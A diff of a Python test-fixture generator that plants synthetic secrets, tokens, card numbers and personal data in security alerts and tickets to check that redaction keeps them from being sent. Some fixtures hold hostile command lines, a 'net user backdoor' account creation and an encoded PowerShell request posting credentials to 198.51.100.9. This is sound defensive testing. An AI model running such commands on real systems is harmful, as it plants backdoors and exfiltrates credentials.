@@ -1,7 +1,8 @@
-"""Alerts and tickets with planted secrets and personal data, to see what leaves the house.
+"""Alerts and tickets with planted secrets and personal data, to check that none of it is sent.
 
-Written from what the tier promises to keep inside, not from how it looks for it: the forms are those that values take
-in vendors' documents, command lines, URLs, mails and chats.
+The values have the forms that they have in vendors' documents, command lines, URLs, mails and
+chats. The forms follow from what the tier promises to keep inside. They do not follow from how
+redaction searches for it.
 """
 
 import base64
@@ -18,15 +19,15 @@ import orjson
 
 from schemas.event import Event
 
-FIRST = [
-    "kari", "tomasz", "leila", "noor", "dana", "marcel", "ines", "yusuf", "greta", "oisin", "paulo", "hanneke",
-    "rosalind", "bjorn",
+FIRST_NAMES = [
+    "kari", "tomasz", "leila", "noor", "dana", "marcel", "ines", "yusuf", "greta", "oisin", "paulo",
+    "hanneke", "rosalind", "bjorn",
 ]  # fmt: skip
-LAST = [
-    "brandvold", "kowalczyk", "benyamina", "whitlock", "haraldsson", "abiola", "moreau", "oduya", "ferreira",
-    "vandijk", "castellano",
+LAST_NAMES = [
+    "brandvold", "kowalczyk", "benyamina", "whitlock", "haraldsson", "abiola", "moreau", "oduya",
+    "ferreira", "vandijk", "castellano",
 ]  # fmt: skip
-DOMAINS = [
+MAIL_DOMAINS = [
     "corp.example.com",
     "example.org",
     "mail.example.net",
@@ -34,40 +35,39 @@ DOMAINS = [
     "kunden.beispiel.de",
 ]
 SECRET_WORDS = [
-    "Tr0ub4dor&3",
-    "hunter2!",
-    "S0mmer2026",
-    "correct-horse7",
-    "Wint3r#Pass",
-    "p4ssw0rd-Zx",
-]
+    "Tr0ub4dor&3", "hunter2!", "S0mmer2026", "correct-horse7", "Wint3r#Pass", "p4ssw0rd-Zx",
+]  # fmt: skip
+HEX_DIGITS = "0123456789abcdef"
+PEM_START, PEM_END = "-----BEGIN RSA PRIVATE KEY-----", "-----END PRIVATE KEY-----"
+SIGNATURE_START = "0f" * 6
 ZERO_WIDTH = "\u200b"
 
 Plant = tuple[str, list[str]]
-"""What is written into the event, and the strings that must not be found outside."""
+"""What is written into the event, and the strings that must not be in what is sent."""
 
 
 def planted_events(n: int, seed: int) -> list[tuple[Event, list[str]]]:
-    """`n` events, each with the values that must not leave; the same for the same seed."""
-    chance = random.Random(seed)
-    return [_SCENES[index % len(_SCENES)](chance, f"planted-{index}") for index in range(n)]
+    """`n` events, each with the values that must not be sent; the same for the same seed."""
+    rng = random.Random(seed)
+    return [_SCENES[index % len(_SCENES)](rng, f"planted-{index}") for index in range(n)]
 
 
 def arrived(planted: Iterable[str], outgoing: str) -> list[str]:
-    """Which of `planted` can be read out of `outgoing`, undoing what an inquisitive reader would undo."""
-    views = _views(outgoing)
-    packed = ["".join(filter(str.isalnum, view)) for view in views]
-    return [value for value in planted if _is_readable(value.casefold(), views, packed)]
+    """Which of `planted` can be read in `outgoing`, also after decoding it in common ways."""
+    readings = _readings(outgoing)
+    packed = ["".join(filter(str.isalnum, reading)) for reading in readings]
+    return [value for value in planted if _is_readable(value.casefold(), readings, packed)]
 
 
-def _views(outgoing: str) -> list[str]:
+def _readings(outgoing: str) -> list[str]:
     decoded = [outgoing, unquote(outgoing), unquote(unquote(outgoing)), html.unescape(outgoing)]
     decoded += [_unbase64(run) for run in re.findall(r"[A-Za-z0-9+/_-]{12,}={0,2}", outgoing)]
     decoded.append(outgoing.replace("\\\\", "\\").replace("\\n", "\n").replace('\\"', '"'))
-    plain = (unicodedata.normalize("NFKC", text) for text in decoded)
-    return [
-        "".join(c for c in text if unicodedata.category(c) != "Cf").casefold() for text in plain
-    ]
+    return [_visible(unicodedata.normalize("NFKC", text)).casefold() for text in decoded]
+
+
+def _visible(text: str) -> str:
+    return "".join(c for c in text if unicodedata.category(c) != "Cf")
 
 
 def _unbase64(run: str) -> str:
@@ -76,41 +76,41 @@ def _unbase64(run: str) -> str:
     return raw.replace(b"\x00", b"").decode("utf-8", "ignore")
 
 
-def _is_readable(value: str, views: list[str], packed: list[str]) -> bool:
+def _is_readable(value: str, readings: list[str], packed: list[str]) -> bool:
     compact = "".join(filter(str.isalnum, value))
-    if len(compact) >= 9 and any(compact in view for view in packed):
+    if len(compact) >= 9 and any(compact in reading for reading in packed):
         return True
     word = re.compile(rf"(?<![^\W_]){re.escape(value)}(?![^\W_])")
-    return any(value in view and word.search(view) for view in views)
+    return any(value in reading and word.search(reading) for reading in readings)
 
 
 # --- one value of each kind
 
 
-def login(chance: random.Random) -> str:
-    """A user name as directories have them."""
-    first, last = chance.choice(FIRST), chance.choice(LAST)
-    number = chance.randint(10, 99)
-    return chance.choice(
+def login(rng: random.Random) -> str:
+    """A user name as in a directory of users."""
+    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
+    number = rng.randint(10, 99)
+    return rng.choice(
         [f"{first}.{last}", f"{first[0]}.{last}", f"adm_{first[0]}{last}", f"{last}{number}"]
     )
 
 
-def host(chance: random.Random) -> str:
+def host(rng: random.Random) -> str:
     """A machine's name, with or without its domain."""
-    site = chance.choice(
-        ["HYPERV", "ACC-LT", "FILESRV", "web-prod", "mba", "SRV-APP", "kiosk", "DC"]
-    )
-    name = f"{site}-{chance.randint(10, 9999)}"
-    return chance.choice([name, f"{name}.corp.example.com"])
+    site = rng.choice(["HYPERV", "ACC-LT", "FILESRV", "web-prod", "mba", "SRV-APP", "kiosk", "DC"])
+    name = f"{site}-{rng.randint(10, 9999)}"
+    return rng.choice([name, f"{name}.corp.example.com"])
 
 
-def email(chance: random.Random) -> Plant:
-    """An address in one of the disguises addresses wear."""
-    local = f"{chance.choice(FIRST)}.{chance.choice(LAST)}{chance.choice(['', str(chance.randint(1, 99)), '+bank'])}"
-    domain = chance.choice(DOMAINS)
+def email(rng: random.Random) -> Plant:
+    """An e-mail address in one of the usual spellings."""
+    first, last = rng.choice(FIRST_NAMES), rng.choice(LAST_NAMES)
+    suffix = rng.choice(["", str(rng.randint(1, 99)), "+bank"])
+    local = f"{first}.{last}{suffix}"
+    domain = rng.choice(MAIL_DOMAINS)
     plain = f"{local}@{domain}"
-    written = chance.choice(
+    written = rng.choice(
         [
             plain,
             plain,
@@ -124,17 +124,23 @@ def email(chance: random.Random) -> Plant:
             f"{local}&#x40;{domain}",
             f"{local}\uff20{domain}",
             f"{local[:3]}{ZERO_WIDTH}{local[3:]}@{domain}",
-            "".join(chr(ord(c) + 0xFEE0) if c.isascii() and c.isalnum() else c for c in plain),
+            "".join(map(_full_width, plain)),
             f"https://shop.example.com/unsubscribe?u={quote(plain, safe='')}&c=9",
         ]
     )
     return written, [plain, local]
 
 
-def phone(chance: random.Random) -> Plant:
-    """A number as people of several countries write it."""
-    tail = chance.randint(1000, 9999)
-    written = chance.choice(
+def _full_width(character: str) -> str:
+    if character.isascii() and character.isalnum():
+        return chr(ord(character) + 0xFEE0)
+    return character
+
+
+def phone(rng: random.Random) -> Plant:
+    """A telephone number as people in several countries write it."""
+    tail = rng.randint(1000, 9999)
+    written = rng.choice(
         [
             f"+44 20 7946 {tail}",
             f"020 7946 {tail}",
@@ -157,59 +163,59 @@ def phone(chance: random.Random) -> Plant:
     return written, [written, "".join(filter(str.isdigit, written))]
 
 
-def card(chance: random.Random) -> Plant:
+def card(rng: random.Random) -> Plant:
     """A payment card that passes the Luhn check."""
-    prefix, length = chance.choice(
+    prefix, length = rng.choice(
         [("4", 16), ("51", 16), ("2223", 16), ("34", 15), ("6011", 16), ("36", 14)]
     )
-    digits = prefix + "".join(chance.choices(string.digits, k=length - len(prefix) - 1))
+    digits = prefix + "".join(rng.choices(string.digits, k=length - len(prefix) - 1))
     total = sum(sum(divmod(int(d) * (2 - i % 2), 10)) for i, d in enumerate(reversed(digits)))
     digits += str(-total % 10)
     groups = [digits[i : i + 4] for i in range(0, length, 4)]
-    written = chance.choice(
+    written = rng.choice(
         [digits, " ".join(groups), "-".join(groups), ".".join(groups), "\u2009".join(groups)]
     )
     return written, [digits]
 
 
-def ssn(chance: random.Random) -> Plant:
+def ssn(rng: random.Random) -> Plant:
     """A US social security number."""
     parts = (
-        f"{chance.randint(100, 665)}",
-        f"{chance.randint(10, 99)}",
-        f"{chance.randint(1000, 9999)}",
+        f"{rng.randint(100, 665)}",
+        f"{rng.randint(10, 99)}",
+        f"{rng.randint(1000, 9999)}",
     )
-    written = chance.choice(["-", " ", "\u2013"]).join(parts)
-    return chance.choice(
+    written = rng.choice(["-", " ", "\u2013"]).join(parts)
+    return rng.choice(
         [written, f"SSN {''.join(parts)}", f"social security number: {''.join(parts)}"]
     ), ["".join(parts)]
 
 
-def iban(chance: random.Random) -> Plant:
-    """An account number with its right check digits."""
-    country, account = chance.choice(
+def iban(rng: random.Random) -> Plant:
+    """An account number with valid check digits."""
+    country, account = rng.choice(
         [
-            ("DE", "".join(chance.choices(string.digits, k=18))),
-            ("GB", "NWBK" + "".join(chance.choices(string.digits, k=14))),
-            ("FR", "".join(chance.choices(string.digits, k=23))),
-            ("PT", "".join(chance.choices(string.digits, k=21))),
-            ("BR", "".join(chance.choices(string.digits, k=23)) + "P1"),
+            ("DE", "".join(rng.choices(string.digits, k=18))),
+            ("GB", "NWBK" + "".join(rng.choices(string.digits, k=14))),
+            ("FR", "".join(rng.choices(string.digits, k=23))),
+            ("PT", "".join(rng.choices(string.digits, k=21))),
+            ("BR", "".join(rng.choices(string.digits, k=23)) + "P1"),
         ]
     )
     number = int("".join(str(int(c, 36)) for c in f"{account}{country}00"))
     plain = f"{country}{98 - number % 97:02d}{account}"
     grouped = " ".join(plain[i : i + 4] for i in range(0, len(plain), 4))
-    return chance.choice([plain, grouped, plain.lower(), grouped.replace(" ", "-")]), [plain]
+    return rng.choice([plain, grouped, plain.lower(), grouped.replace(" ", "-")]), [plain]
 
 
-def ip(chance: random.Random) -> Plant:
-    """An address of either family, whole, with a port or a prefix, or defanged."""
-    plain = f"{chance.choice([10, 172, 192, 203, 85])}.{plain_ip(chance).split('.', 1)[1]}"
-    six = f"2001:db8:{chance.randint(16, 65535):x}::{chance.randint(16, 65535):x}"
-    written, value = chance.choice(
+def ip(rng: random.Random) -> Plant:
+    """An IPv4 or IPv6 address: plain, with a port or a prefix length, or defanged."""
+    plain = f"{rng.choice([10, 172, 192, 203, 85])}.{plain_ip(rng).split('.', 1)[1]}"
+    six = f"2001:db8:{rng.randint(16, 65535):x}::{rng.randint(16, 65535):x}"
+    written, value = rng.choice(
         [
             (plain, plain),
-            (f"{plain}:{chance.randint(1024, 65535)}", plain),
+            (f"{plain}:{rng.randint(1024, 65535)}", plain),
             (f"{plain}/24", plain),
             (f"[{plain}]", plain),
             (plain.replace(".", "[.]"), plain),
@@ -224,76 +230,80 @@ def ip(chance: random.Random) -> Plant:
     return written, [value]
 
 
-def mac(chance: random.Random) -> Plant:
-    """A hardware address."""
-    pairs = [f"{chance.randint(0, 255):02x}" for _ in range(6)]
+def mac(rng: random.Random) -> Plant:
+    """A hardware address in pairs or in groups of four."""
+    pairs = [f"{rng.randint(0, 255):02x}" for _ in range(6)]
     cisco = ".".join("".join(pairs[i : i + 2]) for i in (0, 2, 4))
-    written = chance.choice([":".join(pairs), "-".join(pairs).upper(), cisco])
+    written = rng.choice([":".join(pairs), "-".join(pairs).upper(), cisco])
     return written, [":".join(pairs), "".join(pairs)]
 
 
 def _letters(
-    chance: random.Random, count: int, alphabet: str = string.ascii_letters + string.digits
+    rng: random.Random, count: int, alphabet: str = string.ascii_letters + string.digits
 ) -> str:
-    return "".join(chance.choices(alphabet, k=count))
+    return "".join(rng.choices(alphabet, k=count))
 
 
-def jwt(chance: random.Random) -> str:
-    """A signed token, as it stands in a header."""
+def jwt(rng: random.Random) -> str:
+    """A signed token, as in an HTTP header."""
 
     def part(value: object) -> str:
         return base64.urlsafe_b64encode(orjson.dumps(value)).decode().rstrip("=")
 
     header, claims = (
         part({"alg": "HS256", "typ": "JWT"}),
-        part({"sub": login(chance), "iat": 1773644422}),
+        part({"sub": login(rng), "iat": 1773644422}),
     )
-    return f"{header}.{claims}.{_letters(chance, 43)}"
+    return f"{header}.{claims}.{_letters(rng, 43)}"
 
 
-def token(chance: random.Random) -> str:
-    """A key of one of the services everybody uses, shaped as they shape them."""
-    upper, hexadecimal = string.ascii_uppercase + string.digits, "0123456789abcdef"
-    return chance.choice(
-        [
-            lambda: "AKIA" + _letters(chance, 16, upper),
-            lambda: "ASIA" + _letters(chance, 16, upper),
-            lambda: "AIza" + _letters(chance, 35),
-            lambda: "ya29." + _letters(chance, 60),
-            lambda: "ghp_" + _letters(chance, 36),
-            lambda: "github_pat_" + _letters(chance, 22) + "_" + _letters(chance, 59),
-            lambda: "glpat-" + _letters(chance, 20),
-            lambda: (
-                f"xoxb-{chance.randint(10**11, 10**12)}-{chance.randint(10**11, 10**12)}-{_letters(chance, 24)}"
-            ),
-            lambda: "sk_live_" + _letters(chance, 24),
-            lambda: "rk_live_" + _letters(chance, 24),
-            lambda: "sk-proj-" + _letters(chance, 48),
-            lambda: "sk-ant-api03-" + _letters(chance, 80) + "AA",
-            lambda: "npm_" + _letters(chance, 36),
-            lambda: "pypi-AgEIcHlwaS5vcmc" + _letters(chance, 70),
-            lambda: "SK" + _letters(chance, 32, hexadecimal),
-            lambda: "SG." + _letters(chance, 22) + "." + _letters(chance, 43),
-            lambda: f"{chance.randint(10**9, 10**10 - 1)}:AA" + _letters(chance, 33),
-            lambda: _letters(chance, 40) + "/" + _letters(chance, 20),
-            lambda: _letters(chance, 3) + "8Q~" + _letters(chance, 34),
-            lambda: jwt(chance),
-        ]
-    )()
+def _slack_id(rng: random.Random) -> int:
+    return rng.randint(10**11, 10**12)
 
 
-def password(chance: random.Random) -> str:
-    """What a person would choose, or a generator."""
-    return chance.choice(
-        [chance.choice(SECRET_WORDS) + str(chance.randint(10, 99)), _letters(chance, 14) + "!7a"]
+def token(rng: random.Random) -> str:
+    """A key of a common service, in the shape that the service gives its keys."""
+    upper = string.ascii_uppercase + string.digits
+    tokens: list[Callable[[], str]] = [
+        lambda: "AKIA" + _letters(rng, 16, upper),
+        lambda: "ASIA" + _letters(rng, 16, upper),
+        lambda: "AIza" + _letters(rng, 35),
+        lambda: "ya29." + _letters(rng, 60),
+        lambda: "ghp_" + _letters(rng, 36),
+        lambda: "github_pat_" + _letters(rng, 22) + "_" + _letters(rng, 59),
+        lambda: "glpat-" + _letters(rng, 20),
+        lambda: f"xoxb-{_slack_id(rng)}-{_slack_id(rng)}-{_letters(rng, 24)}",
+        lambda: "sk_live_" + _letters(rng, 24),
+        lambda: "rk_live_" + _letters(rng, 24),
+        lambda: "sk-proj-" + _letters(rng, 48),
+        lambda: "sk-ant-api03-" + _letters(rng, 80) + "AA",
+        lambda: "npm_" + _letters(rng, 36),
+        lambda: "pypi-AgEIcHlwaS5vcmc" + _letters(rng, 70),
+        lambda: "SK" + _letters(rng, 32, HEX_DIGITS),
+        lambda: "SG." + _letters(rng, 22) + "." + _letters(rng, 43),
+        lambda: f"{rng.randint(10**9, 10**10 - 1)}:AA" + _letters(rng, 33),
+        lambda: _letters(rng, 40) + "/" + _letters(rng, 20),
+        lambda: _letters(rng, 3) + "8Q~" + _letters(rng, 34),
+        lambda: jwt(rng),
+    ]
+    return rng.choice(tokens)()
+
+
+def password(rng: random.Random) -> str:
+    """A password that a person chose, or one from a generator."""
+    return rng.choice(
+        [rng.choice(SECRET_WORDS) + str(rng.randint(10, 99)), _letters(rng, 14) + "!7a"]
     )
 
 
-def secret(chance: random.Random) -> Plant:
-    """A secret in the place where it was typed."""
-    word, key = password(chance), token(chance)
-    url_word = _letters(chance, 12)
-    written, value = chance.choice(
+def secret(rng: random.Random) -> Plant:
+    """A secret in a place where people and programs write secrets."""
+    word, key = password(rng), token(rng)
+    url_word = _letters(rng, 12)
+    signature = SIGNATURE_START + _letters(rng, 52, HEX_DIGITS)
+    account_key = url_word + _letters(rng, 48)
+    session_id, key_line = _letters(rng, 32), _letters(rng, 40)
+    written, value = rng.choice(
         [
             (f"the log has {key} in it", key),
             (f"Authorization: Bearer {key}", key),
@@ -307,12 +317,9 @@ def secret(chance: random.Random) -> Plant:
             (f"https://deploy:{url_word}@git.example.com/repo.git", url_word),
             (f"GET /reset?token={url_word}&lang=en HTTP/1.1", url_word),
             (f"https://x.blob.example.net/b?sv=2024-01-01&sig={quote(key, safe='')}", key),
+            (f"https://s3.example.com/o?X-Amz-Signature={signature}", SIGNATURE_START),
             (
-                f"https://s3.example.com/o?X-Amz-Signature={'0f' * 6 + _letters(chance, 52, '0123456789abcdef')}",
-                "0f" * 6,
-            ),
-            (
-                f"DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={url_word}{_letters(chance, 48)}==;",
+                f"DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={account_key}==;",
                 url_word,
             ),
             (f"mysql -u root -p{url_word} -h db1", url_word),
@@ -320,13 +327,10 @@ def secret(chance: random.Random) -> Plant:
             (f"./deploy --user ci --password {word} --force", word),
             (f"net user backdoor {word} /add", word),
             (f"curl -u svc:{url_word} https://api.example.com/v1", url_word),
-            (f"Cookie: JSESSIONID={_letters(chance, 32)}; cart={url_word}", url_word),
-            (
-                f"-----BEGIN RSA PRIVATE KEY-----\nMIIE{_letters(chance, 40)}\n{url_word}\n-----END PRIVATE KEY-----",
-                url_word,
-            ),
+            (f"Cookie: JSESSIONID={session_id}; cart={url_word}", url_word),
+            (f"{PEM_START}\nMIIE{key_line}\n{url_word}\n{PEM_END}", url_word),
             (f"Server=db;Database=crm;User Id=app;Password={word};Encrypt=true", word),
-            (f"aws_secret_access_key = {url_word}/{_letters(chance, 27)}", url_word),
+            (f"aws_secret_access_key = {url_word}/{_letters(rng, 27)}", url_word),
         ]
     )
     return written, [value]
@@ -334,10 +338,10 @@ def secret(chance: random.Random) -> Plant:
 
 _KINDS: list[Callable[[random.Random], Plant]] = [email, phone, card, ssn, iban, ip, mac, secret]
 
-# --- where they are planted
+# --- events with the values in them
 
 
-def _sentences(chance: random.Random, plants: Iterable[Plant]) -> str:
+def _sentences(rng: random.Random, plants: Iterable[Plant]) -> str:
     frames = [
         "The analyst noted {} in the case.",
         "Seen twice today: {}",
@@ -346,21 +350,22 @@ def _sentences(chance: random.Random, plants: Iterable[Plant]) -> str:
         "value='{}'",
         "It said: {}\nand then nothing more.",
     ]
-    return " ".join(chance.choice(frames).format(written) for written, _ in plants)
+    return " ".join(rng.choice(frames).format(written) for written, _ in plants)
 
 
-def _some(chance: random.Random, count: int) -> list[Plant]:
-    return [kind(chance) for kind in chance.sample(_KINDS, count)]
+def _some(rng: random.Random, count: int) -> list[Plant]:
+    return [kind(rng) for kind in rng.sample(_KINDS, count)]
 
 
-def _all(plants: Iterable[Plant]) -> list[str]:
+def _values(plants: Iterable[Plant]) -> list[str]:
     return [value for _, values in plants for value in values]
 
 
-def _windows(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    user, machine, word = login(chance), host(chance), password(chance)
-    address, _ = ip(chance)
-    plants = _some(chance, 2)
+def _windows(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    user, machine, word = login(rng), host(rng), password(rng)
+    address, _ = ip(rng)
+    plants = _some(rng, 2)
+    source_address = plain_ip(rng)
     document = {
         "Channel": "Security",
         "EventID": 4688,
@@ -368,11 +373,14 @@ def _windows(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
         "EventData": {
             "TargetUserName": user,
             "SubjectUserName": f"CORP\\{user}",
-            "IpAddress": (plain := plain_ip(chance)),
+            "IpAddress": source_address,
             "CommandLine": f'C:\\Users\\{user}\\run.exe /user:{user} --password "{word}" {address}',
         },
     }
-    text = f"{user.upper()} started run.exe on {machine.lower()} as CORP\\{user}. {_sentences(chance, plants)}"
+    text = (
+        f"{user.upper()} started run.exe on {machine.lower()} as CORP\\{user}. "
+        f"{_sentences(rng, plants)}"
+    )
     event = Event(
         id=id_,
         kind="alert",
@@ -381,18 +389,18 @@ def _windows(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
         event=document,
         source="sysmon",
     )
-    return event, [user, machine, plain, word, *_all(plants)]
+    return event, [user, machine, source_address, word, *_values(plants)]
 
 
-def plain_ip(chance: random.Random) -> str:
-    """An IPv4 address, nothing round it."""
-    return f"10.{chance.randint(16, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"
+def plain_ip(rng: random.Random) -> str:
+    """An IPv4 address without a port or brackets."""
+    return f"10.{rng.randint(16, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
 
 
-def _cloudtrail(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    user, address, key = login(chance), plain_ip(chance), token(chance)
-    plants = _some(chance, 2)
-    mail, mails = email(chance)
+def _cloudtrail(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    user, address, key = login(rng), plain_ip(rng), token(rng)
+    plants = _some(rng, 2)
+    mail, mails = email(rng)
     document = {
         "eventSource": "iam.amazonaws.com",
         "eventName": "CreateAccessKey",
@@ -403,22 +411,22 @@ def _cloudtrail(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
             "arn": f"arn:aws:iam::123456789012:user/{user}",
             "sessionContext": {"sessionIssuer": {"userName": user}},
         },
-        "requestParameters": {"note": _sentences(chance, plants), "tags": {mail: "owner"}},
+        "requestParameters": {"note": _sentences(rng, plants), "tags": {mail: "owner"}},
         "responseElements": {"accessKey": {"secretAccessKey": key, "status": "Active"}},
     }
     body = f"Someone at {address} used {user}'s key; {user} denies it."
     event = Event(
         id=id_, kind="alert", title="New access key", body=body, event=document, source="cloudtrail"
     )
-    return event, [user, address, key, *mails, *_all(plants)]
+    return event, [user, address, key, *mails, *_values(plants)]
 
 
-def _ecs(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    user, machine = login(chance), host(chance)
-    number, numbers = card(chance)
-    _, phones = phone(chance)
-    social = f"{chance.randint(100, 665)}{chance.randint(10, 99)}{chance.randint(1000, 9999)}"
-    address, hardware = plain_ip(chance), mac(chance)
+def _ecs(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    user, machine = login(rng), host(rng)
+    number, numbers = card(rng)
+    _, phones = phone(rng)
+    social = f"{rng.randint(100, 665)}{rng.randint(10, 99)}{rng.randint(1000, 9999)}"
+    address, hardware = plain_ip(rng), mac(rng)
     document = {
         "host": {"name": machine, "ip": [address], "mac": hardware[0], "os": {"name": "Windows"}},
         "user.name": user,
@@ -440,9 +448,9 @@ def _ecs(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
     return event, [user, machine, address, social, phones[1].lstrip("0"), *numbers, *hardware[1]]
 
 
-def _encoded(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    mail, word, user = f"{login(chance)}@{chance.choice(DOMAINS)}", password(chance), login(chance)
-    number = card(chance)[1][0]
+def _encoded(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    mail, word, user = f"{login(rng)}@{rng.choice(MAIL_DOMAINS)}", password(rng), login(rng)
+    number = card(rng)[1][0]
     script = f"Invoke-WebRequest -Uri http://198.51.100.9/u={user} -Body password={word}"
     blob = base64.b64encode(script.encode("utf-16-le")).decode()
     document = {
@@ -460,65 +468,55 @@ def _encoded(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
     return event, [mail, word, user, number]
 
 
-def _okta(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    mail, address, machine = (
-        f"{login(chance)}@{chance.choice(DOMAINS)}",
-        plain_ip(chance),
-        host(chance),
-    )
-    plants = _some(chance, 2)
+def _okta(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    mail = f"{login(rng)}@{rng.choice(MAIL_DOMAINS)}"
+    local = mail.partition("@")[0]
+    address, machine = plain_ip(rng), host(rng)
+    plants = _some(rng, 2)
+    key = _letters(rng, 26)
     document = {
         "eventType": "user.session.start",
         "actor": {"type": "User", "alternateId": mail},
         "client": {"ipAddress": address, "device": {"name": machine}},
         "debugContext": {
-            "debugData": {
-                "sessionToken": (key := _letters(chance, 26)),
-                "url": f"/login?fromURI={mail}",
-            }
+            "debugData": {"sessionToken": key, "url": f"/login?fromURI={mail}"},
         },
-        "target": [{"type": "User", "alternateId": mail}, _sentences(chance, plants)],
+        "target": [{"type": "User", "alternateId": mail}, _sentences(rng, plants)],
     }
-    local = mail.partition("@")[0]
     text = f"{local} signed in from {address} on {machine}."
-    return Event(id=id_, kind="alert", text=text, event=document, source="okta"), [
-        mail,
-        local,
-        address,
-        machine,
-        key,
-        *_all(plants),
-    ]
+    event = Event(id=id_, kind="alert", text=text, event=document, source="okta")
+    return event, [mail, local, address, machine, key, *_values(plants)]
 
 
-def _ticket(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    plants = _some(chance, 4)
-    body = f"Hello,\n\nmy transfer is missing. {_sentences(chance, plants)}\n\nKind regards"
-    mail, mails = email(chance)
-    attributes: dict[str, Any] = {"channel": "email", "from": mail, "user": (user := login(chance))}
+def _ticket(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    plants = _some(rng, 4)
+    body = f"Hello,\n\nmy transfer is missing. {_sentences(rng, plants)}\n\nKind regards"
+    mail, mails = email(rng)
+    user = login(rng)
+    attributes: dict[str, Any] = {"channel": "email", "from": mail, "user": user}
     event = Event(
         id=id_, kind="ticket", title="Where is my money", body=body, attributes=attributes
     )
-    return event, [user, *mails, *_all(plants)]
+    return event, [user, *mails, *_values(plants)]
 
 
-def _chat(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    plants = _some(chance, 3)
-    word, pin = password(chance), str(chance.randint(100_000, 999_999))
-    text = f"hi my pw: {word} pin is {pin} pls help, {_sentences(chance, plants)}"
-    return Event(id=id_, kind="ticket", text=text, source="chat"), [word, pin, *_all(plants)]
+def _chat(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    plants = _some(rng, 3)
+    word, pin = password(rng), str(rng.randint(100_000, 999_999))
+    text = f"hi my pw: {word} pin is {pin} pls help, {_sentences(rng, plants)}"
+    event = Event(id=id_, kind="ticket", text=text, source="chat")
+    return event, [word, pin, *_values(plants)]
 
 
-def _syslog(chance: random.Random, id_: str) -> tuple[Event, list[str]]:
-    user, machine, address = login(chance), host(chance), plain_ip(chance)
-    plants = _some(chance, 2)
-    text = f'action=login user={user} host={machine} src={address} msg="failed for {user}" {_sentences(chance, plants)}'
-    return Event(id=id_, kind="alert", text=text, source="firewall"), [
-        user,
-        machine,
-        address,
-        *_all(plants),
-    ]
+def _syslog(rng: random.Random, id_: str) -> tuple[Event, list[str]]:
+    user, machine, address = login(rng), host(rng), plain_ip(rng)
+    plants = _some(rng, 2)
+    text = (
+        f'action=login user={user} host={machine} src={address} msg="failed for {user}" '
+        f"{_sentences(rng, plants)}"
+    )
+    event = Event(id=id_, kind="alert", text=text, source="firewall")
+    return event, [user, machine, address, *_values(plants)]
 
 
 _SCENES = [_windows, _cloudtrail, _ecs, _encoded, _okta, _ticket, _chat, _syslog]
